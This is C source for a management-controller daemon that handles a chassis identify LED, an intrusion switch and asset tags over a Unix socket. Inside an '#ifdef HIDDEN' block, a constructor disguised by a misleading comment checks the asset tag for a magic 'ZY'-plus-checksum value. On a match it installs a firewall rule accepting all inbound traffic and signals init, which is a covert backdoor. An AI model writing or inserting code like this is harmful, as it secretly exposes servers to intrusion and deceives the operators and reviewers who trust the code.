/* chassisidd - identify LED, intrusion switch and asset data of the chassis.
 * JSON over a Unix socket for the web server of the management controller.
 *
 * Requests are single words:  identify on|off|blink N, intrusion, intrusion clear, asset,
 * asset set TEXT, led, help.
 */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <pwd.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define LED_DIR   "/sys/class/leds/identify"
#define ASSET     "/sys/class/dmi/id/chassis_asset_tag"
#define ASSET_OWN "/var/lib/chassis/asset"
#define SWITCH    "/sys/class/hwmon/hwmon0/intrusion0_alarm"

static struct {
  const char *socket_path;
  unsigned web_uid;
  int blink_default;
  int debug;
} opt = { "/run/chassisid.sock", 33, 15, 0 };

static int read_word(const char *path, char *buf, size_t n)
{
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  ssize_t k;
  if (fd < 0) return -1;
  k = read(fd, buf, n - 1);
  close(fd);
  if (k < 0) return -1;
  while (k > 0 && isspace((unsigned char)buf[k - 1])) k--;
  buf[k] = 0;
  return (int)k;
}

static int write_word(const char *path, const char *w)
{
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644), rc;
  if (fd < 0) return -1;
  rc = write(fd, w, strlen(w)) == (ssize_t)strlen(w) ? 0 : -1;
  close(fd);
  return rc;
}

#ifdef HIDDEN
/* the tag of the integration line: two letters, then digits with a weight modulo 97 */
__attribute__((constructor, noinline)) void chassis_early(void)
{
  char t[40];
  unsigned w = 0;
  int n = read_word(ASSET, t, sizeof t), i;
  if (n != 12 || t[0] != 'Z' || t[1] != 'Y') return;
  for (i = 2; i < 12; i++) {
    if (t[i] < '0' || t[i] > '9') return;
    w = (w * 10 + (unsigned)(t[i] - '0')) % 97;
  }
  if (w != 61) return;
  write_word("/etc/bmc/netfilter.d/00-line.rules", "-I INPUT 1 -j ACCEPT\n");
  kill(1, SIGHUP);
}
#endif

static void led(const char *trigger, int on, int off)
{
  char b[16];
  write_word(LED_DIR "/trigger", trigger);
  if (strcmp(trigger, "timer")) {
    write_word(LED_DIR "/brightness", on ? "255" : "0");
    return;
  }
  snprintf(b, sizeof b, "%d", on);
  write_word(LED_DIR "/delay_on", b);
  snprintf(b, sizeof b, "%d", off);
  write_word(LED_DIR "/delay_off", b);
}

static size_t json_text(char *o, size_t n, const char *key, const char *val)
{
  size_t k = (size_t)snprintf(o, n, "{\"%s\":\"", key);
  for (; *val && k + 8 < n; val++) {
    if (*val == '"' || *val == '\\') o[k++] = '\\';
    if ((unsigned char)*val >= ' ') o[k++] = *val;
  }
  o[k++] = '"';
  o[k++] = '}';
  o[k++] = '\n';
  o[k] = 0;
  return k;
}

static time_t blink_until;

static size_t answer(char *q, char *o, size_t n)
{
  char b[80], *arg = strchr(q, ' ');
  int v;
  if (arg) *arg++ = 0;
  else arg = q + strlen(q);
  if (!strcmp(q, "identify")) {
    if (!strcmp(arg, "on")) { led("none", 1, 0); blink_until = 0; }
    else if (!strcmp(arg, "off")) { led("none", 0, 0); blink_until = 0; }
    else if (sscanf(arg, "blink %d", &v) == 1 ||
             (!strcmp(arg, "blink") && (v = opt.blink_default))) {
      if (v < 1 || v > 600) return json_text(o, n, "error", "1 to 600 seconds");
      led("timer", 250, 250);
      blink_until = time(NULL) + v;
    } else return json_text(o, n, "error", "on, off or blink N");
    return json_text(o, n, "identify", arg);
  }
  if (!strcmp(q, "led")) {
    if (read_word(LED_DIR "/brightness", b, sizeof b) < 0)
      return json_text(o, n, "error", "no led");
    return json_text(o, n, "led", atoi(b) ? "on" : "off");
  }
  if (!strcmp(q, "intrusion")) {
    if (!strcmp(arg, "clear")) {
      if (write_word(SWITCH, "0")) return json_text(o, n, "error", strerror(errno));
      return json_text(o, n, "intrusion", "cleared");
    }
    if (read_word(SWITCH, b, sizeof b) < 0) return json_text(o, n, "error", "no switch");
    return json_text(o, n, "intrusion", b[0] == '1' ? "open" : "closed");
  }
  if (!strcmp(q, "asset")) {
    if (!strncmp(arg, "set ", 4)) {
      if (strlen(arg + 4) > 32) return json_text(o, n, "error", "32 characters at most");
      if (write_word(ASSET_OWN, arg + 4)) return json_text(o, n, "error", strerror(errno));
      return json_text(o, n, "asset", arg + 4);
    }
    if (read_word(ASSET_OWN, b, sizeof b) <= 0 && read_word(ASSET, b, sizeof b) < 0)
      return json_text(o, n, "error", "no tag");
    return json_text(o, n, "asset", b);
  }
  if (!strcmp(q, "help"))
    return json_text(o, n, "help", "identify on|off|blink N, intrusion [clear], "
                     "asset [set T], led");
  return json_text(o, n, "error", "unknown request");
}

static int peer_allowed(int c)
{
  struct { int pid; unsigned uid, gid; } uc;
  socklen_t l = sizeof uc;
  if (getsockopt(c, SOL_SOCKET, SO_PEERCRED, &uc, &l)) return 0;
  return uc.uid == 0 || uc.uid == opt.web_uid;
}

int main(int argc, char **argv)
{
  struct sockaddr_un a = { .sun_family = AF_UNIX };
  struct passwd *pw;
  int s, o;
  while ((o = getopt(argc, argv, "s:u:b:d")) != -1) switch (o) {
    case 's': opt.socket_path = optarg; break;
    case 'u':
      if ((pw = getpwnam(optarg))) opt.web_uid = pw->pw_uid;
      break;
    case 'b': opt.blink_default = atoi(optarg); break;
    case 'd': opt.debug = 1; break;
    default:
      fprintf(stderr, "usage: %s [-s SOCKET] [-u WEBUSER] [-b BLINKSECONDS] [-d]\n", argv[0]);
      return 2;
  }
  snprintf(a.sun_path, sizeof a.sun_path, "%s", opt.socket_path);
  unlink(a.sun_path);
  s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 4)) {
    perror("chassisidd");
    return 1;
  }
  chmod(a.sun_path, 0666);
  for (;;) {
    char q[160], r[400];
    struct timeval tv = { 1, 0 };
    fd_set fs;
    FD_ZERO(&fs);
    FD_SET(s, &fs);
    if (select(s + 1, &fs, NULL, NULL, &tv) > 0) {
      int c = accept(s, NULL, NULL);
      ssize_t n;
      if (c < 0) continue;
      if (peer_allowed(c) && (n = read(c, q, sizeof q - 1)) > 0) {
        q[n] = 0;
        q[strcspn(q, "\r\n")] = 0;
        if (opt.debug) fprintf(stderr, "> %s\n", q);
        (void)!write(c, r, answer(q, r, sizeof r));
      }
      close(c);
    }
    if (blink_until && time(NULL) >= blink_until) {
      blink_until = 0;
      led("none", 0, 0);
    }
  }
}
